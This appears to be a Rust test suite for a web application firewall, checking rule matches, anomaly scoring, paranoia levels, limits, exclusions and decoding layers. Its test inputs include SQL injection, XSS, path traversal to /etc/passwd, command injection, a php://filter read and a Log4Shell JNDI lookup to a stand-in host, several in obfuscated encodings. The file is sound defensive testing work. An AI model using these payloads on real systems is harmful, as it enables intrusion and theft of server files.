//! The engine: limits and their statuses, scoring and the threshold, paranoia, detect mode,
//! exclusions, bodies (form, JSON, cut, broken) and the decoding layers. Natively and, through
//! wasm-bindgen-test, on wasm32.

use super::*;
use serde_json::json;

fn waf(config: serde_json::Value) -> Waf {
    Waf::from_json(config.to_string().as_bytes()).unwrap_or_else(|e| panic!("{e}: {config}"))
}

fn headers(extra: &[(&str, &str)]) -> Vec<(String, String)> {
    let mut h = vec![
        (":authority".to_string(), "shop.example".to_string()),
        ("user-agent".to_string(), "Mozilla/5.0".to_string()),
        ("accept".to_string(), "*/*".to_string()),
    ];
    h.extend(extra.iter().map(|(n, v)| (n.to_string(), v.to_string())));
    h
}

fn get(w: &Waf, path: &str) -> (Assessment, Verdict) {
    let h = headers(&[]);
    let a = w.check_head(&Head {
        method: "GET",
        path,
        headers: &h,
        end_of_stream: true,
    });
    let v = w.verdict(&a);
    (a, v)
}

fn post(w: &Waf, path: &str, content_type: &str, body: &str) -> (Assessment, Verdict) {
    let len = body.len().to_string();
    let h = headers(&[("content-type", content_type), ("content-length", &len)]);
    let mut a = w.check_head(&Head {
        method: "POST",
        path,
        headers: &h,
        end_of_stream: false,
    });
    if let BodyPlan::Inspect(kind) = a.body {
        w.check_body(&mut a, kind, body.as_bytes(), true);
    }
    let v = w.verdict(&a);
    (a, v)
}

fn blocked(v: &Verdict) -> bool {
    matches!(v, Verdict::Block { .. })
}

#[test]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn defaults_pass_ordinary_requests() {
    let w = waf(json!({}));
    for path in [
        "/",
        "/api/v1/products?page=2&sort=price&q=red+shoes",
        "/search?q=O%27Brien%20%26%20Sons",
        "/blog/2024/01/hello-world",
        "/api/users/42?fields=id,name,email",
        "/q?text=caf%C3%A9%20cr%C3%A8me",
    ] {
        let (a, v) = get(&w, path);
        assert_eq!(v, Verdict::Pass, "{path}: {:?}", a.matches);
    }
    let (a, v) = post(
        &w,
        "/api/orders",
        "application/json",
        r#"{"items":[{"sku":"A-1","qty":2}],"note":"leave it at the door, please; thanks!"}"#,
    );
    assert_eq!(v, Verdict::Pass, "{:?}", a.matches);
    let (a, v) = post(
        &w,
        "/login",
        "application/x-www-form-urlencoded",
        "user=alice&password=s3cr%21t&remember=on",
    );
    assert_eq!(v, Verdict::Pass, "{:?}", a.matches);
}

#[test]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn attacks_are_blocked_with_their_rules_and_score() {
    let w = waf(json!({}));
    for (path, rule) in [
        ("/search?q=1%27%20or%20%271%27%3D%271", 942100),
        ("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 941100),
        ("/file?name=..%2F..%2Fetc%2Fpasswd", 930110),
        ("/file?name=%252e%252e%252fetc%252fpasswd", 930100),
        ("/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", 932100),
        ("/x?u=php%3A%2F%2Ffilter%2Fresource%3Dindex", 931110),
        ("/.git/config", 930130),
        ("/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fe.vil%2Fa%7D", 944150),
        ("/x?q=UnIoN%2F**%2FsElEcT%201%2C2", 942100),
        ("/x?q=%26lt%3Bscript%26gt%3Balert(1)", 941100),
        ("/x?q=%5Cu003cscript%5Cu003ealert(1)", 941100),
        ("/x?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)", 941100),
    ] {
        let (a, v) = get(&w, path);
        assert!(blocked(&v), "{path}: {:?}", a.matches);
        assert!(a.rule_ids().contains(&rule), "{path}: {:?}", a.rule_ids());
        let Verdict::Block {
            status,
            reason,
            log,
        } = v
        else {
            continue;
        };
        assert_eq!((status, reason), (403, "anomaly_score"));
        assert!(
            log.contains(&rule.to_string()) && log.contains("anomaly score"),
            "{log}"
        );
    }
}

#[test]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn scanners_are_found_by_agent_header_and_probe() {
    let w = waf(json!({}));
    let h = headers(&[("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")]);
    let a = w.check_head(&Head {
        method: "GET",
        path: "/",
        headers: &h,
        end_of_stream: true,
    });
    assert!(a.rule_ids().contains(&913100));
    assert!(blocked(&w.verdict(&a)));
    let h = headers(&[("acunetix-product", "WVS/13")]);
    let a = w.check_head(&Head {
        method: "GET",
        path: "/",
        headers: &h,
        end_of_stream: true,
    });
    assert!(a.rule_ids().contains(&913110));
    let (a, _) = get(&w, "/nessustest");
    assert!(a.rule_ids().contains(&913120));
}

#[test]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn limits_refuse_with_their_status_and_reason() {
    let w = waf(
        json!({"limits": {"max_request_line": 100, "max_headers": 5, "max_header_bytes": 50,
        "max_args": 3, "max_arg_bytes": 20, "max_body_bytes": 1000,
        "status": {"too_many_args": 422}}}),
    );
    let check = |method: &str, path: &str, extra: &[(&str, &str)], eos: bool| {
        let h = headers(extra);
        let a = w.check_head(&Head {
            method,
            path,
            headers: &h,
            end_of_stream: eos,
        });
        w.verdict(&a)
    };
    let refused = |v: Verdict| match v {
        Verdict::Block { status, reason, .. } => (status, reason),
        other => panic!("not refused: {other:?}"),
    };
    assert_eq!(
        refused(check("TRACE", "/", &[], true)),
        (405, "method_not_allowed")
    );
    assert_eq!(
        refused(check("GET", &format!("/{}", "a".repeat(120)), &[], true)),
        (414, "request_line_too_long")
    );
    assert_eq!(
        refused(check(
            "GET",
            "/",
            &[("a", "1"), ("b", "2"), ("c", "3"), ("d", "4")],
            true
        )),
        (431, "too_many_headers")
    );
    assert_eq!(
        refused(check("GET", "/", &[("x-big", &"v".repeat(60))], true)),
        (431, "header_too_large")
    );
    assert_eq!(
        refused(check("GET", "/?a=1&b=2&c=3&d=4", &[], true)),
        (422, "too_many_args")
    );
    assert_eq!(
        refused(check("GET", &format!("/?a={}", "x".repeat(30)), &[], true)),
        (400, "arg_too_long")
    );
    assert_eq!(
        refused(check("POST", "/", &[("content-length", "5000")], false)),
        (413, "body_too_large")
    );
    assert_eq!(
        refused(check(
            "POST",
            "/",
            &[("content-type", "application/x-evil")],
            false
        )),
        (415, "content_type_not_allowed")
    );
    // Within every limit: passes.
    assert_eq!(check("GET", "/?a=1&b=2", &[], true), Verdict::Pass);
}

#[test]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn detect_mode_blocks_nothing_and_says_what_it_would_have_done() {
    let w = waf(json!({"mode": "detect", "limits": {"max_args": 1}}));
    let (a, v) = get(&w, "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    assert!(a.score() >= 5);
    let Verdict::Detected { log } = v else {
        panic!("{v:?}")
    };
    assert!(
        log.contains("941100") && log.contains("detect mode"),
        "{log}"
    );
    let (_, v) = get(&w, "/?a=1&b=2");
    let Verdict::Detected { log } = v else {
        panic!("{v:?}")
    };
    assert!(log.contains("too_many_args"), "{log}");
}

#[test]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn threshold_and_paranoia_decide() {
    // 920220 (invalid percent) scores 3: under the default threshold of 5.
    let w = waf(json!({}));
    let (a, v) = get(&w, "/?discount=100%");
    assert_eq!(a.score(), 3);
    assert_eq!(v, Verdict::Pass);
    let strict = waf(json!({"inbound_threshold": 3}));
    assert!(blocked(&get(&strict, "/?discount=100%").1));
    // Paranoia 2 adds the missing User-Agent rule and the any-tag rule.
    let pl2 = waf(json!({"paranoia": 2, "inbound_threshold": 2}));
    let h = vec![(":authority".to_string(), "x".to_string())];
    let a = pl2.check_head(&Head {
        method: "GET",
        path: "/?q=%3Cb%3Ehi%3C%2Fb%3E",
        headers: &h,
        end_of_stream: true,
    });
    assert!(
        a.rule_ids().contains(&920320) && a.rule_ids().contains(&941310),
        "{:?}",
        a.rule_ids()
    );
    let a = w.check_head(&Head {
        method: "GET",
        path: "/?q=%3Cb%3Ehi%3C%2Fb%3E",
        headers: &h,
        end_of_stream: true,
    });
    assert!(a.matches.is_empty(), "{:?}", a.matches);
}

#[test]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn exclusions_remove_a_false_positive_and_only_it() {
    let body = r#"{"title":"SQL tips","body":"try: SELECT * FROM t WHERE a=1; DROP TABLE t"}"#;
    let w = waf(json!({}));
    assert!(blocked(&post(&w, "/api/posts", "application/json", body).1));
    let excl = waf(
        json!({"exclusions": [{"path_prefix": "/api/posts", "rules": [942100], "args": ["body"]}]}),
    );
    let (a, v) = post(&excl, "/api/posts", "application/json", body);
    assert_eq!(v, Verdict::Pass, "{:?}", a.matches);
    // Another route, another argument, another rule: still blocked.
    assert!(blocked(
        &post(&excl, "/api/postsx", "application/json", body).1
    ));
    let other = r#"{"title":"1; DROP TABLE t","body":"x"}"#;
    assert!(blocked(
        &post(&excl, "/api/posts", "application/json", other).1
    ));
    let (_, v) = post(
        &excl,
        "/api/posts/7",
        "application/json",
        r#"{"body":"<script>alert(1)</script>"}"#,
    );
    assert!(blocked(&v));
}

#[test]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn every_copy_of_a_repeated_json_key_is_inspected() {
    let w = waf(json!({}));
    let attack = "1' OR '1'='1";
    for body in [
        format!(r#"{{"q": "{attack}", "q": "hello"}}"#),
        format!(r#"{{"q": "hello", "q": "{attack}"}}"#),
        format!(r#"{{"q": {{"x": "{attack}"}}, "q": "hello"}}"#),
    ] {
        let (a, v) = post(&w, "/search", "application/json", &body);
        assert!(blocked(&v), "{body}: {:?}", a.matches);
    }
    let (a, v) = post(
        &w,
        "/search",
        "application/json",
        r#"{"q": "red shoes", "q": "blue shoes"}"#,
    );
    assert_eq!(v, Verdict::Pass, "{:?}", a.matches);
}

#[test]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn bodies_form_json_cut_and_broken() {
    let w = waf(json!({"inspect_body_bytes": 64}));
    let (a, v) = post(
        &w,
        "/f",
        "application/x-www-form-urlencoded",
        "name=x&comment=%3Csvg%2Fonload%3Dalert(1)%3E",
    );
    assert!(blocked(&v), "{:?}", a.matches);
    assert_eq!(
        a.matches.first().map(|m| m.target.as_str()),
        Some("comment")
    );
    let (a, v) = post(
        &w,
        "/j",
        "application/json",
        r#"{"user":{"bio":"' or 1=1--"}}"#,
    );
    assert!(blocked(&v));
    assert!(
        a.matches.iter().any(|m| m.target == "user.bio"),
        "{:?}",
        a.matches
    );
    // A broken JSON document is refused for not parsing.
    let (a, _) = post(&w, "/j", "application/json", r#"{"a": "#);
    assert!(a.rule_ids().contains(&rules::BODY_PARSE));
    // A cut body (over the inspection size): its first bytes are read as strings, no parse error.
    let long = format!(
        r#"{{"q":"<script>alert(1)</script>","pad":"{}"}}"#,
        "x".repeat(200)
    );
    let h = headers(&[("content-type", "application/json")]);
    let mut a = w.check_head(&Head {
        method: "POST",
        path: "/j",
        headers: &h,
        end_of_stream: false,
    });
    assert_eq!(a.body, BodyPlan::Inspect(BodyKind::Json));
    w.check_body(&mut a, BodyKind::Json, long.as_bytes(), false);
    assert!(
        a.rule_ids().contains(&941100) && !a.rule_ids().contains(&rules::BODY_PARSE),
        "{:?}",
        a.rule_ids()
    );
    // Uploads are not held.
    let h = headers(&[("content-type", "application/octet-stream")]);
    let a = w.check_head(&Head {
        method: "PUT",
        path: "/u",
        headers: &h,
        end_of_stream: false,
    });
    assert_eq!(a.body, BodyPlan::Stream);
    let off = waf(json!({"inspect_body_bytes": 0}));
    let h = headers(&[("content-type", "application/json")]);
    let a = off.check_head(&Head {
        method: "POST",
        path: "/j",
        headers: &h,
        end_of_stream: false,
    });
    assert_eq!(a.body, BodyPlan::Stream);
}

#[test]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn invalid_configurations_name_the_field() {
    for (config, field) in [
        (json!({"paranoia": 3}), "paranoia"),
        (json!({"mode": "log"}), "mode"),
        (json!({"block_status": 200}), "block_status"),
        (json!({"inbound_threshold": 0}), "inbound_threshold"),
        (
            json!({"inspect_body_bytes": 10_000_000}),
            "inspect_body_bytes",
        ),
        (json!({"limits": {"methods": ["get"]}}), "limits.methods[0]"),
        (
            json!({"limits": {"content_types": ["json"]}}),
            "limits.content_types[0]",
        ),
        (
            json!({"limits": {"status": {"body_too_large": 99}}}),
            "limits.status.body_too_large",
        ),
        (
            json!({"exclusions": [{"rules": [1]}]}),
            "exclusions[0].rules[0]",
        ),
        (
            json!({"exclusions": [{"path_prefix": "/x"}]}),
            "exclusions[0]",
        ),
        (
            json!({"exclusions": [{"path_prefix": "x", "rules": [942100]}]}),
            "exclusions[0].path_prefix",
        ),
        (json!({"modes": "block"}), "modes"),
    ] {
        let err = Waf::from_json(config.to_string().as_bytes())
            .err()
            .unwrap_or_else(|| panic!("accepted {config}"));
        assert!(
            err.field.starts_with(field)
                || err.field == "configuration" && err.reason.contains(field),
            "{config}: {err}"
        );
    }
}

#[test]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn hostile_input_is_bounded_and_never_panics() {
    let w = waf(json!({"mode": "detect"}));
    let nasty = [
        "%".repeat(5000),
        "%25".repeat(3000),
        "&#".repeat(3000),
        "\\u".repeat(3000),
        "<".repeat(5000),
        "'".repeat(5000),
        "/*".repeat(3000),
        "\u{10ffff}\u{0}".repeat(1000),
        "%c0%ae".repeat(1000),
        "&#x110000;&#99999999999;".to_string(),
    ];
    for n in &nasty {
        let _ = get(&w, &format!("/?q={n}"));
        let _ = post(&w, "/", "application/json", n);
        let _ = post(&w, "/", "application/x-www-form-urlencoded", n);
    }
    // Deep JSON: serde's recursion limit refuses it, scored as a parse error.
    let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let (a, _) = post(&w, "/", "application/json", &deep);
    assert!(a.rule_ids().contains(&rules::BODY_PARSE));
}

#[test]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn decoding_layers() {
    use decode::*;
    assert_eq!(url_decode_full("%253Cscript%253E"), "<script>");
    assert_eq!(url_decode_once("%u003c"), "<");
    assert_eq!(html_decode("&lt;a&#62;&#x3C;&quot"), "<a><\"");
    assert_eq!(js_decode("\\u003cb\\x3e"), "<b>");
    assert_eq!(normalise("%26%2360%3BSCRIPT"), "<script");
    assert_eq!(shell_fold("c'a't${ifs}/etc/pa\\sswd"), "cat /etc/passwd");
    assert!(has_invalid_percent("100%"));
    assert!(!has_invalid_percent("100%25"));
}

#[test]
#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
fn rule_ids_are_unique_and_categorised() {
    let mut ids: Vec<u32> = rules::RULES.iter().map(|r| r.id).collect();
    ids.sort_unstable();
    let n = ids.len();
    ids.dedup();
    assert_eq!(ids.len(), n);
    for c in Category::ALL {
        assert!(rules::RULES.iter().any(|r| r.category == c), "{c:?}");
    }
}
